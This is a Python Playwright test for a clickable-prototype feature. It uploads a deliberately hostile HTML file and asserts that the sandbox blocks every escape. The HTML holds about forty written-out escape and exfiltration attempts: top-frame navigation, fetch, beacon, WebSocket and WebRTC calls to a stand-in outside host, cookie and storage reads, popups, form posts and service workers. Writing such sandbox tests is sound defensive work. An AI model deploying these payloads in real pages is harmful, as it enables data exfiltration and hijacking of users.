"""A hostile clickable prototype tries every way out of its frame, and out of a tab of its own: none works."""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress

import pytest
from playwright.sync_api import Browser, Page, Route

from tests.browser.people import People
from tests.browser.served import Server

pytestmark = pytest.mark.proof

# Each attempt answers true when it got what it wanted; what leaves the machine is heard by the listener as well.
HOSTILE = """<!doctype html><html><head>
<link rel="dns-prefetch" href="OUT/dns"><link rel="prefetch" href="OUT/prefetch"><link rel="preload" as="image" href="OUT/preload">
<link rel="stylesheet" href="OUT/style.css"><style>@import url(OUT/import.css); @font-face{font-family:x;src:url(OUT/font.woff)} p{font-family:x;background:url(OUT/background.png)}</style>
<base href="OUT/base/"></head>
<body><p>presa</p><img src="OUT/img.png"><img src="relative-to-base.png"><object data="OUT/object.pdf"></object><embed src="OUT/embed.swf">
<iframe src="OUT/frame"></iframe><iframe src="/"></iframe><video src="OUT/video.mp4" poster="OUT/poster.png"></video><audio src="OUT/a.mp3"></audio>
<svg><script>self.svgRan = true</script><image href="OUT/svg.png"/><use href="OUT/use.svg#a"/></svg><a id="ping" ping="OUT/ping" href="#x">x</a>
<a id="away" href="OUT/download" download>y</a><form id="out" method="post" action="OUT/form"></form><form id="own" method="post" action="/sign-out" target="_top"></form>
<script src="OUT/script.js"></script><script>
async function call(place) {
  const peer = new place.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((on) => setTimeout(on, 800));
  return false;
}
const attempts = {
  cookie: () => document.cookie !== undefined && document.cookie.length > 0,
  setCookie: () => { document.cookie = "a=b"; return document.cookie.includes("a=b"); },
  localStorage: () => Boolean(localStorage),
  sessionStorage: () => Boolean(sessionStorage),
  indexedDB: () => new Promise((yes) => { const asked = indexedDB.open("x"); asked.onsuccess = () => yes(true); asked.onerror = () => yes(false); }),
  parent: () => Boolean(parent !== self && parent.document.body),
  parentWords: () => Boolean(parent.document.querySelector("h1").textContent),
  top: () => { top.location.href = "OUT/top"; return false; },
  topReplace: () => { top.location.replace("OUT/top2"); return false; },
  topData: () => { top.location.href = "data:text/html,x"; return false; },
  popup: () => window.open("OUT/popup") !== null,
  popupOwn: () => window.open("/") !== null,
  opener: () => Boolean(window.opener),
  form: () => { document.getElementById("out").submit(); return false; },
  formOwn: () => { document.getElementById("own").requestSubmit(); return false; },
  fetch: () => fetch("OUT/fetch", { mode: "no-cors" }).then(() => true),
  fetchOwn: () => fetch("/", { credentials: "include" }).then(() => true),
  fetchFolder: () => fetch("index.html").then(() => true),
  xhr: () => new Promise((yes) => { const x = new XMLHttpRequest(); x.open("GET", "OUT/xhr"); x.onload = () => yes(true); x.onerror = () => yes(false); x.send(); }),
  socket: () => new Promise((yes) => { const s = new WebSocket("OUT/ws".replace("http", "ws")); s.onopen = () => yes(true); s.onerror = () => yes(false); }),
  events: () => new Promise((yes) => { const s = new EventSource("OUT/events"); s.onopen = () => yes(true); s.onerror = () => yes(false); }),
  beacon: () => { navigator.sendBeacon("OUT/beacon", "x"); return false; },
  image: () => new Promise((yes) => { const i = new Image(); i.onload = () => yes(true); i.onerror = () => yes(false); i.src = "OUT/new.png"; }),
  imageOwn: () => new Promise((yes) => { const i = new Image(); i.onload = () => yes(true); i.onerror = () => yes(false); i.src = "OWN"; }),
  module: () => import("OUT/module.js").then(() => true),
  moduleOwn: () => import("OWNJS").then(() => true),
  worker: () => { new Worker(URL.createObjectURL(new Blob(["fetch('OUT/worker')"]))); return false; },
  serviceWorker: () => navigator.serviceWorker.register("/prototype-files/sw.js").then(() => true),
  evaluated: () => { eval("self.evaluated = 1"); return Boolean(self.evaluated); },
  srcdoc: () => { const f = document.createElement("iframe"); f.srcdoc = "<script>top.location='OUT/srcdoc'<\\/script>"; document.body.append(f); return false; },
  blankFrame: () => { const f = document.createElement("iframe"); document.body.append(f); return Boolean(f.contentWindow.localStorage); },
  webrtc: () => call(self),
  webrtcFrame: () => { const f = document.createElement("iframe"); document.body.append(f); return call(f.contentWindow); },
  preconnect: () => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = "OUT"; document.head.append(l); return false; },
  speculation: () => { const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["OUT/speculation"] }] }); document.head.append(s); return false; },
  message: () => { parent.postMessage({ go: "OUT/message" }, "*"); return false; },
  ping: () => { document.getElementById("ping").click(); return false; },
  download: () => { document.getElementById("away").click(); return false; },
  alert: () => { return confirm("x"); },
  fullscreen: () => document.documentElement.requestFullscreen().then(() => true),
  domain: () => { document.domain = "localhost"; return true; },
};
(async () => {
  const won = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try { if (await Promise.race([attempt(), new Promise((no) => setTimeout(no, 1500, false))])) won.push(name); } catch (refused) { /* as it should be */ }
  }
  console.info(`tried ${Object.keys(attempts).length}, won: ${won.join(" ")}.`);
  setTimeout(() => {
    document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=OUT/refresh" }));
    location.href = "OUT/self";
  }, 300);
})();
</script></body></html>"""


class Listener:
    """What comes from inside at a place outside: every connection and every packet is noted."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        for listen in (self._accept, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    @property
    def ports(self) -> tuple[int, int]:
        return self.tcp.getsockname()[1], self.udp.getsockname()[1]

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                line, _ = self.tcp.accept()
                line.settimeout(1)
                with suppress(OSError), line:
                    self.heard.append(
                        "connected " + line.recv(200).decode(errors="replace").split("\\r")[0]
                    )

    def _receive(self) -> None:
        with suppress(OSError):
            while True:
                self.udp.recv(2000)
                self.heard.append("packet")

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def outside() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


@pytest.fixture
def bruno(chromium: Browser, own_server: Server) -> Iterator[Page]:
    known = People(chromium, own_server)
    yield known.sit_down("bruno", "oficina", "pt-BR")
    known.leave()


def hostile(page: Page, outside: Listener) -> bytes:
    tcp, udp = outside.ports
    page.goto("/")
    own = page.evaluate("() => document.querySelector('link[rel=icon]').href")
    script = page.evaluate("() => document.querySelector('script[type=module]').src")
    told = {"OUT": f"http://127.0.0.1:{tcp}", "UDP": str(udp), "OWNJS": script, "OWN": own}
    text = HOSTILE
    for word, value in told.items():
        text = text.replace(word, value)
    return text.encode()


def test_nothing_gets_out_of_a_clickable_prototype(bruno: Page, outside: Listener) -> None:
    page, opened, saved = bruno, [], []
    page.context.on("page", lambda each: opened.append(each))
    page.on("download", lambda each: saved.append(each))
    page.on("dialog", lambda dialog: saved.append(dialog))
    sent = {"name": "Fuga.html", "mimeType": "text/html", "buffer": hostile(page, outside)}
    links = page.evaluate("() => [...document.links].map((link) => link.pathname)")
    [team] = {found[0] for link in links if (found := re.match("/redesigns/[0-9]+", link))}
    page.goto(f"{team}/prototypes/new")
    page.get_by_label("Escolher arquivos").set_input_files([sent])
    page.locator('[data-state="kept"]').wait_for()
    page.get_by_role("button", name="Criar o protótipo").click()
    page.get_by_text("não acessa outro site: 127.0.0.1").wait_for()
    said: list[str] = []
    page.on("console", lambda each: said.append(each.text))
    page.get_by_role("link", name="Abrir para clicar").click()
    here, address = page.url, page.locator("iframe.tried").get_attribute("src") or ""
    while not (told := [each for each in said if each.startswith("tried ")]):
        page.wait_for_timeout(200)
    assert told == ["tried 41, won: ."]
    # Leaving by itself, at last: the page around it lets the frame go nowhere else.
    page.wait_for_timeout(1500)
    assert page.url == here and page.get_by_role("link", name="Sair").is_visible()
    page.goto("/")
    assert page.locator("[data-person]").count()
    assert (opened, saved, outside.heard) == ([], [], [])

    # A tab of its own: where the browser says what it is for, it is refused; else it stops before it runs.
    tab = page.context.new_page()
    answer = tab.goto(address)
    assert answer is not None and answer.status == 403 and "protótipo" in tab.inner_text("body")

    def unnamed(route: Route) -> None:
        known = {k: v for k, v in route.request.headers.items() if not k.startswith("sec-")}
        route.fulfill(response=route.fetch(headers=known))

    tab.route("**/prototype-files/**", unnamed)
    answer = tab.goto(address, wait_until="commit")
    tab.wait_for_timeout(2500)
    assert answer is not None and answer.status == 200 and tab.url.endswith(address)
    assert tab.evaluate("() => document.documentElement") is None
    assert (opened[1:], saved, outside.heard) == ([], [], [])
